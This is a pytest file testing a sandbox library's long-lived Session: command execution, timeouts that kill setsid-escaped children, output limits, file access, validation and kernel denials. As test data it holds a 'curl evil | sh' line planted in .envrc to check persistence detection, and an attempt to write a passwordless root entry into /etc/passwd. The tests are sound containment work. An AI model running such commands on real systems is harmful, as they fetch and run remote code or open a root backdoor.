"""Sessions: one long-lived cell serving many calls (stockade.cell.Session)."""

from __future__ import annotations

import dataclasses
import errno
import hashlib
import os
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from stockade.cell import Session, SessionResult
from stockade.errors import CellError, UsageError
from stockade.policy import Policy, default_policy
from stockade.record import Event


@pytest.fixture
def session(tmp_path: Path) -> Iterator[Session]:
    with Session(workspace=tmp_path) as s:
        yield s


def test_exec_returns_code_output_and_records_the_call(tmp_path: Path) -> None:
    seen: list[Event] = []
    with Session(workspace=tmp_path, on_event=seen.append, run_id="r-test") as s:
        result = s.exec(["/bin/sh", "-c", "echo out; echo err >&2; exit 7"])
    final = s.close()
    assert isinstance(result, SessionResult)
    assert (result.returncode, result.stdout, result.stderr) == (7, b"out\n", b"err\n")
    assert not result.timed_out and not result.truncated
    calls = [e for e in final.events if e.kind == "session.exec"]
    assert len(calls) == 1
    assert calls[0].detail["argv"] == ["/bin/sh", "-c", "echo out; echo err >&2; exit 7"]
    assert calls[0].detail["exit_code"] == 7 and calls[0].detail["duration"] > 0
    assert calls[0].detail["call"] == result.call and calls[0].cell == final.cell_id
    assert calls[0].run == "r-test"
    kinds = [e.kind for e in seen]
    assert kinds[0] == "cell.start" and "session.open" in kinds and "session.exec" in kinds
    assert [e.kind for e in final.events][-3:] == ["cell.persistence", "cell.end", "session.close"]
    # Handed live, so a caller recording live leaves them out at the end.
    assert not [e for e in final.not_live() if e.kind.startswith("session.")]


@pytest.mark.parametrize(
    "data",
    [b"hello\n", bytes(range(256)) * 4, b"\xff\x00" * 100],
    ids=["text", "binary", "nul-bytes"],
)
def test_input_reaches_stdin_unchanged(session: Session, data: bytes) -> None:
    result = session.exec(["cat"], input=data)
    assert result.returncode == 0 and result.stdout == data


def test_fifty_mebibytes_of_input(session: Session) -> None:
    data = os.urandom(1 << 20) * 50
    result = session.exec(["sha256sum"], input=data)
    assert result.returncode == 0
    assert result.stdout.split()[0].decode() == hashlib.sha256(data).hexdigest()


def test_cwd_and_env_per_call_and_the_cells_env_by_default(session: Session) -> None:
    session.exec(["mkdir", "-p", "sub/dir"])
    here = session.exec(["pwd"], cwd=f"{session.workspace}/sub/dir")
    assert here.stdout.decode().strip() == f"{session.workspace}/sub/dir"
    env = session.exec(["sh", "-c", 'echo "$GREETING:$HOME"'], env={"GREETING": "hi"})
    assert env.stdout.decode().startswith("hi:")
    plain = session.exec(["sh", "-c", 'echo "${GREETING-unset}"'])
    assert plain.stdout == b"unset\n"  # one call's env is not the next one's


def test_state_lasts_across_calls(session: Session) -> None:
    session.exec(["sh", "-c", "echo 'export TOOL=installed' > env.sh; mkdir -p bin"])
    session.write_file("bin/tool", b"#!/bin/sh\necho tool ran\n", mode=0o755)
    started = session.exec(["sh", "-c", "sleep 300 > /dev/null 2>&1 & echo $!"])
    pid = started.stdout.decode().strip()
    later = session.exec(["sh", "-c", f". ./env.sh; echo $TOOL; ./bin/tool; kill -0 {pid} && echo alive"])
    assert later.stdout == b"installed\ntool ran\nalive\n"


def test_timeout_kills_the_calls_whole_tree(session: Session) -> None:
    # A child in a session of its own escapes the process group, not the call's cgroup.
    result = session.exec(
        ["sh", "-c", "setsid sleep 300 & echo $! > escaped.pid; sleep 300"], timeout=0.5, input=b""
    )
    assert result.timed_out and result.returncode == 128 + 9
    check = session.exec(["sh", "-c", "kill -0 $(cat escaped.pid) 2>/dev/null && echo alive || echo gone"])
    assert check.stdout == b"gone\n"
    # Control: the session still serves calls, and one within its timeout is not cut.
    quick = session.exec(["echo", "still here"], timeout=30)
    assert quick.stdout == b"still here\n" and not quick.timed_out


def test_timeout_is_recorded_as_a_limit(tmp_path: Path) -> None:
    with Session(workspace=tmp_path) as s:
        s.exec(["sleep", "300"], timeout=0.2)
    calls = [e for e in s.close().events if e.kind == "session.exec"]
    assert calls[0].detail["timed_out"] is True and calls[0].outcome == "denied"


def test_output_limit_truncates_and_keeps_memory_bounded(session: Session) -> None:
    result = session.exec(["head", "-c", str(64 << 20), "/dev/zero"], output_limit=1000)
    assert result.truncated and len(result.stdout) == 1000 and result.returncode == 0
    whole = session.exec(["head", "-c", "1000", "/dev/zero"], output_limit=1000)
    assert not whole.truncated and len(whole.stdout) == 1000


def test_stderr_has_an_output_limit_of_its_own(session: Session) -> None:
    result = session.exec(["sh", "-c", f"head -c {16 << 20} /dev/zero >&2; echo out"], output_limit=100)
    assert result.truncated and len(result.stderr) == 100 and result.stdout == b"out\n"
    assert result.returncode == 0  # the command ran to its end: only what is kept is cut


def test_the_policys_limits_are_each_calls_defaults(tmp_path: Path) -> None:
    """No ``timeout``/``output_limit`` in a call: the policy's ``limits.timeout``
    and ``limits.output`` apply to it, each call afresh (a session has no
    cell-wide timeout: calls after one that timed out still run)."""
    base = default_policy()
    policy = dataclasses.replace(base, limits=dataclasses.replace(base.limits, timeout=0.5, output=64))
    with Session(policy, workspace=tmp_path) as s:
        slow = s.exec(["sh", "-c", "setsid sleep 300 & echo $! > bg.pid; sleep 300"])
        assert slow.timed_out and slow.returncode == 128 + 9
        assert s.read_file("bg.pid").strip().isdigit()
        loud = s.exec(["head", "-c", "1000", "/dev/zero"])
        assert loud.truncated and len(loud.stdout) == 64 and not loud.timed_out
        gone = s.exec(["sh", "-c", "kill -0 $(cat bg.pid) 2>/dev/null && echo alive || echo gone"])
        assert gone.stdout == b"gone\n"
        # A call's own arguments win over the policy's.
        longer = s.exec(["sh", "-c", "sleep 1; head -c 100 /dev/zero"], timeout=30, output_limit=1000)
        assert not longer.timed_out and len(longer.stdout) == 100 and not longer.truncated


def test_a_timeout_ends_its_own_call_only(session: Session) -> None:
    """One call's timeout kills its tree (its cgroup) and nothing of a call in
    flight beside it, nor of the processes an earlier call left running."""
    session.exec(["mkfifo", "pipe"])
    kept = session.exec(["sh", "-c", "sleep 300 > /dev/null 2>&1 & echo $!"]).stdout.decode().strip()
    got: list[SessionResult] = []
    reader = threading.Thread(target=lambda: got.append(session.exec(["cat", "pipe"], timeout=30)))
    reader.start()
    cut = session.exec(["sh", "-c", "sleep 300 & sleep 300"], timeout=0.3)
    assert cut.timed_out
    session.exec(["sh", "-c", "echo after > pipe"], timeout=30)
    reader.join(40)
    assert got and got[0].stdout == b"after\n" and not got[0].timed_out
    alive = session.exec(["sh", "-c", f"kill -0 {kept} && echo alive"])
    assert alive.stdout == b"alive\n"


def test_calls_run_concurrently(session: Session) -> None:
    # The reader returns only if the writer runs while it waits: both in flight at once.
    session.exec(["mkfifo", "pipe"])
    got: list[SessionResult] = []
    reader = threading.Thread(target=lambda: got.append(session.exec(["cat", "pipe"], timeout=20)))
    reader.start()
    writer = session.exec(["sh", "-c", "echo through > pipe"], timeout=20)
    reader.join(30)
    assert writer.returncode == 0
    assert got and got[0].stdout == b"through\n" and not got[0].timed_out


def test_many_threads_many_calls(session: Session) -> None:
    results: dict[int, list[bytes]] = {}

    def worker(n: int) -> None:
        results[n] = [session.exec(["echo", f"{n}-{i}"]).stdout for i in range(10)]

    threads = [threading.Thread(target=worker, args=(n,)) for n in range(12)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(60)
    assert results == {n: [f"{n}-{i}\n".encode() for i in range(10)] for n in range(12)}


def test_many_sessions_at_once_each_its_own(tmp_path: Path) -> None:
    sessions = []
    for i in range(4):
        (tmp_path / str(i)).mkdir()
        sessions.append(Session(workspace=tmp_path / str(i)).start())
    try:
        for i, s in enumerate(sessions):
            s.write_file("mine", str(i).encode())
        for i, s in enumerate(sessions):
            assert s.read_file("mine") == str(i).encode()
            other = sessions[(i + 1) % 4].workspace
            peek = s.exec(["cat", f"{other}/mine"])
            assert peek.returncode != 0 and peek.stdout == b""
    finally:
        for s in sessions:
            s.close()


def test_files_binary_large_and_modes(session: Session) -> None:
    data = os.urandom(1 << 20) * 20
    session.write_file("big.bin", data)
    assert session.read_file("big.bin") == data
    session.write_file("/tmp/x.sh", b"#!/bin/sh\necho x\n", mode=0o750)
    assert session.exec(["stat", "-c", "%a %U", "/tmp/x.sh"]).stdout == b"750 agent\n"
    session.write_file("/tmp/x.sh", b"")  # replaced, mode kept
    assert session.read_file("/tmp/x.sh") == b""
    with pytest.raises(UsageError, match="limit"):
        session.read_file("big.bin", limit=10)


def test_file_errors_are_pythons(session: Session) -> None:
    with pytest.raises(FileNotFoundError):
        session.read_file("/no/such/file")
    with pytest.raises(FileNotFoundError):
        session.write_file("/tmp/no/such/dir/f", b"x")
    with pytest.raises(IsADirectoryError):
        session.read_file("/tmp")
    with pytest.raises(IsADirectoryError):
        session.write_file("/tmp", b"x")
    with pytest.raises(PermissionError):
        session.write_file("/etc/passwd", b"root::0:0::/:/bin/sh\n")
    # Control: the workspace stays writable.
    session.write_file("ok.txt", b"fine")
    assert session.read_file(f"{session.workspace}/ok.txt") == b"fine"


def test_every_kernel_refusal_is_attributed_to_its_call(tmp_path: Path) -> None:
    with Session(workspace=tmp_path) as s:
        tried = s.exec(["sh", "-c", "echo x > /etc/stockade-session-test"])
        fine = s.exec(["sh", "-c", "echo x > ok && cat ok"])
        with pytest.raises(PermissionError):
            s.write_file("/usr/stockade-session-test", b"x")
    result = s.close()
    assert tried.returncode != 0 and fine.stdout == b"x\n"
    denials = [e for e in result.denials if e.layer == "landlock"]
    by_exec = [e for e in denials if e.detail.get("call") == tried.call]
    assert by_exec and all(e.cell == result.cell_id for e in by_exec), result.denials
    assert any("/etc" in str(e.detail) for e in by_exec)
    assert not [e for e in denials if e.detail.get("call") == fine.call]
    assert [e for e in denials if "/usr" in str(e.detail) and e.detail.get("call", "").endswith(".3")]


def test_close_ends_the_cell_and_returns_its_result(tmp_path: Path) -> None:
    s = Session(workspace=tmp_path).start()
    s.exec(["sh", "-c", "sleep 300 > /dev/null 2>&1 &"])
    s.exec(["sh", "-c", "echo 'curl evil | sh' > .envrc"])
    result = s.close()
    assert result.exit_code == 0
    report = [e for e in result.events if e.kind == "cell.persistence"]
    assert report and ".envrc" in report[0].summary
    assert s.close() is result  # idempotent
    with pytest.raises(CellError, match="closed"):
        s.exec(["true"])


def test_user_other_than_the_cells_needs_a_root_workbench(session: Session) -> None:
    assert session.exec(["id", "-u"], user=1000).stdout == b"1000\n"
    assert session.exec(["id", "-u"], user="agent").stdout == b"1000\n"
    with pytest.raises(UsageError, match="root workbench"):
        session.exec(["id"], user="root")
    with pytest.raises(UsageError, match="root workbench"):
        session.read_file("/etc/hostname", user=0)


@pytest.mark.parametrize(
    ("call", "message"),
    [
        (lambda s: s.exec([]), "argv is empty"),
        (lambda s: s.exec("ls -l"), "not a list"),
        (lambda s: s.exec(["echo", "a\0b"]), "NUL"),
        (lambda s: s.exec([""]), "argv\\[0\\] is empty"),
        (lambda s: s.exec(["ls", 3]), "not a str"),
        (lambda s: s.exec(["ls"], cwd="relative/dir"), "not an absolute path"),
        (lambda s: s.exec(["ls"], cwd="/a\0b"), "not an absolute path"),
        (lambda s: s.exec(["ls"], env={"A=B": "c"}), "holds '='"),
        (lambda s: s.exec(["ls"], env={"A": "b\0"}), "NUL"),
        (lambda s: s.exec(["ls"], env={"A": 1}), "not str"),
        (lambda s: s.exec(["ls"], timeout=-1), "positive number"),
        (lambda s: s.exec(["ls"], timeout=0), "positive number"),
        (lambda s: s.exec(["ls"], timeout=float("nan")), "positive number"),
        (lambda s: s.exec(["ls"], output_limit=-5), "number of bytes"),
        (lambda s: s.exec(["cat"], input="text"), "not bytes"),
        (lambda s: s.exec(["echo", "x" * (2 << 20)]), "more than"),
        (lambda s: s.read_file(""), "empty"),
        (lambda s: s.read_file("a\0b"), "NUL"),
        (lambda s: s.write_file("f", "text"), "not bytes"),
        (lambda s: s.write_file("f", b"x", mode=0o10000), "file mode"),
        (lambda s: s.exec(["id"], user="nobody-such"), "not a user"),
    ],
)
def test_arguments_are_validated(session: Session, call: object, message: str) -> None:
    with pytest.raises(UsageError, match=message):
        call(session)  # type: ignore[operator]
    assert session.exec(["true"]).returncode == 0  # and nothing was broken by it


def test_command_not_found_and_bad_cwd_are_results(session: Session) -> None:
    missing = session.exec(["no-such-command-anywhere"])
    assert missing.returncode == 127 and b"no-such-command-anywhere" in missing.stderr
    nowhere = session.exec(["true"], cwd="/no/such/dir")
    assert nowhere.returncode == 126 and b"/no/such/dir" in nowhere.stderr


def test_a_session_never_started_or_closed_twice(tmp_path: Path) -> None:
    s = Session(workspace=tmp_path)
    with pytest.raises(CellError, match="never started"):
        s.close()
    with pytest.raises(CellError, match="closed"):
        s.start()


# ---------------------------------------------------------------------- over an image


def _root_policy() -> Policy:
    return dataclasses.replace(default_policy(), user="root")


@pytest.mark.skipif(os.geteuid() != 0, reason="a workbench maps an id range: needs root (CAP_SETUID)")
def test_a_session_over_an_image_keeps_its_state_and_changes_users() -> None:
    from tests.cell._image import make_image

    with Session(_root_policy(), image=make_image()) as s:
        assert s.exec(["id", "-u"]).stdout == b"0\n"
        s.exec(["sh", "-c", "echo installed > /etc/tool.conf; mkdir -p /srv && chown 1234 /srv"])
        assert s.read_file("/etc/tool.conf") == b"installed\n"  # the image's /, written by an earlier call
        s.write_file("/srv/mine", b"of 1234", user=1234, mode=0o600)
        who = s.exec(["sh", "-c", "id -u; stat -c %u /srv/mine; cat /srv/mine"], user="builder")
        assert who.stdout == b"1234\n1234\nof 1234", who  # a name of the image's /etc/passwd
        with pytest.raises(UsageError, match="not in the image"):
            s.exec(["id"], user="nosuchuser")
        with pytest.raises(PermissionError):
            s.write_file("/etc/tool.conf", b"x", user=1234)  # root's file, as 1234: what it means inside
        with pytest.raises(PermissionError):
            s.read_file("/srv/mine", user=4321)
        assert s.read_file("/srv/mine") == b"of 1234"  # control: root reads it
    result = s.close()
    assert result.exit_code == 0


@pytest.mark.skipif(os.geteuid() != 0, reason="a workbench maps an id range: needs root (CAP_SETUID)")
def test_per_call_user_cwd_env_input_and_timeout_in_an_image() -> None:
    """Each per-call argument in a root workbench's session: a call as the
    image's user, in a cwd of its own, with its env and 50 MiB of binary
    stdin; a timeout kills that user's whole tree (a setsid child too)."""
    from tests.cell._image import PYTHON, make_image

    data = os.urandom(1 << 20) * 50
    with Session(_root_policy(), image=make_image()) as s:
        s.exec(["sh", "-c", "mkdir -p /srv/work && chown 1234 /srv/work"])
        got = s.exec(
            ["sh", "-c", 'id -u; pwd; echo "$TASK"; cat > in.bin; wc -c < in.bin'],
            user="builder",
            cwd="/srv/work",
            env={"TASK": "t-1"},
            input=data,
        )
        assert got.stdout.decode().split() == ["1234", "/srv/work", "t-1", str(len(data))], got.stderr
        assert s.read_file("/srv/work/in.bin", limit=len(data)) == data
        # The image has no sleep or setsid: its Python forks a child into a
        # session of its own (out of the call's process group), then both wait.
        escape = (
            "import os, time\n"
            "if os.fork() == 0:\n"
            "    os.setsid(); open('bg.pid', 'w').write(str(os.getpid()))\n"
            "time.sleep(300)\n"
        )
        cut = s.exec([PYTHON, "-c", escape], user="builder", cwd="/srv/work", timeout=0.5)
        assert cut.timed_out and cut.returncode == 128 + 9
        assert s.read_file("/srv/work/bg.pid").isdigit()  # the child was there to kill
        gone = s.exec(["sh", "-c", "kill -0 $(cat /srv/work/bg.pid) 2>/dev/null && echo alive || echo gone"])
        assert gone.stdout == b"gone\n"
        assert s.exec(["id", "-u"]).stdout == b"0\n"  # the next call: the cell's own user again


def test_close_while_a_call_is_in_flight_ends_it(tmp_path: Path) -> None:
    s = Session(workspace=tmp_path).start()
    s.exec(["mkfifo", "started"])
    failures: list[BaseException] = []

    def long_call() -> None:
        try:
            s.exec(["sh", "-c", "echo > started; exec sleep 300"], timeout=300)
        except CellError as exc:
            failures.append(exc)

    caller = threading.Thread(target=long_call)
    caller.start()
    assert s.read_file("started") == b"\n"  # the call is running (the fifo's reader waits for it)
    result = s.close()
    caller.join(30)
    assert not caller.is_alive()
    assert failures and "ended during call" in str(failures[0])
    assert result.exit_code == 0


def test_a_call_holds_only_its_stdio_and_cannot_reach_the_inits(session: Session) -> None:
    # The session socket would let a process start calls of its own: it stays
    # with the init, whose descriptors no process of the cell can read.
    script = "import os; print(sorted(int(f) for f in os.listdir('/proc/self/fd')))"
    mine = session.exec(["/usr/bin/python3", "-I", "-c", script])
    assert mine.stdout == b"[0, 1, 2, 3]\n", mine  # 3: listdir's own
    peek = session.exec(["ls", "/proc/1/fd"])
    assert peek.returncode != 0 and b"Permission denied" in peek.stderr
    assert session.exec(["ls", "/proc/self/fd"]).returncode == 0  # control: its own are readable


def test_an_error_report_that_holds_a_w_is_not_taken_for_the_end(session: Session) -> None:
    missing = session.exec(["Weird-W42-no-such-command"])
    assert missing.returncode == 127 and b"Weird-W42-no-such-command" in missing.stderr


def test_write_file_fails_on_an_existing_file_or_appends_to_it(session: Session) -> None:
    session.write_file("notes.txt", b"one\n", exist="fail")  # a new file: made
    with pytest.raises(FileExistsError):
        session.write_file("notes.txt", b"two\n", exist="fail")
    session.write_file("notes.txt", b"two\n", exist="append")
    assert session.read_file("notes.txt") == b"one\ntwo\n"
    session.write_file("notes.txt", b"three\n")  # the default: replaced
    assert session.read_file("notes.txt") == b"three\n"
    with pytest.raises(UsageError, match="exist"):
        session.write_file("notes.txt", b"x", exist="merge")  # type: ignore[arg-type]


def test_list_dir_sees_the_cells_view_without_following_links(tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret").write_bytes(b"s" * 99)
    ws = tmp_path / "ws"
    ws.mkdir()
    with Session(workspace=ws) as s:
        s.write_file("a.txt", b"12345")
        assert s.exec(["sh", "-c", f"mkdir sub && ln -s {outside} out && mkfifo pipe"]).returncode == 0
        entries, truncated = s.list_dir(str(ws))
        assert not truncated
        assert entries == [
            ("a.txt", "file", 5),
            ("out", "symlink", 0),
            ("pipe", "fifo", 0),
            ("sub", "dir", 0),
        ]
        assert s.list_dir(".", limit=2) == (entries[:2], True)  # relative: the workdir
        with pytest.raises(NotADirectoryError):
            s.list_dir("a.txt")
        with pytest.raises(FileNotFoundError):
            s.list_dir("/no/such/dir")
        # The link's target is a host directory outside the cell's view:
        # through the link the cell finds nothing, as `ls` there would.
        with pytest.raises(FileNotFoundError):
            s.list_dir(f"{ws}/out")
        assert ("bin", "dir", 0) in s.list_dir("/usr")[0]  # the control: a granted directory lists


def test_a_fifo_does_not_hold_a_file_call_that_does_not_block(session: Session) -> None:
    """A fifo the cell made where a file was expected, with block=False (the
    broker's fs intents): read_file sees no data at once (no writer),
    write_file fails (no reader); neither waits, and a regular file beside it
    still reads (the control). By default a fifo's read waits for its writer
    (test_close_while_a_call_is_in_flight_ends_it relies on it)."""
    assert session.exec(["mkfifo", "trap"]).returncode == 0
    done = threading.Event()
    seen: list[object] = []

    def calls() -> None:
        seen.append(session.read_file("trap", block=False))
        try:
            session.write_file("trap", b"x", block=False)
        except OSError as exc:
            seen.append(exc.errno)
        done.set()

    threading.Thread(target=calls, daemon=True).start()
    assert done.wait(20), "a file call waited on the fifo"
    # ENXIO: no reader at the open. The read call's child let go of its end
    # before the read returned (its "D"), so none is left to meet.
    assert seen == [b"", errno.ENXIO], seen
    session.write_file("plain.txt", b"fine")
    assert session.read_file("plain.txt") == b"fine"
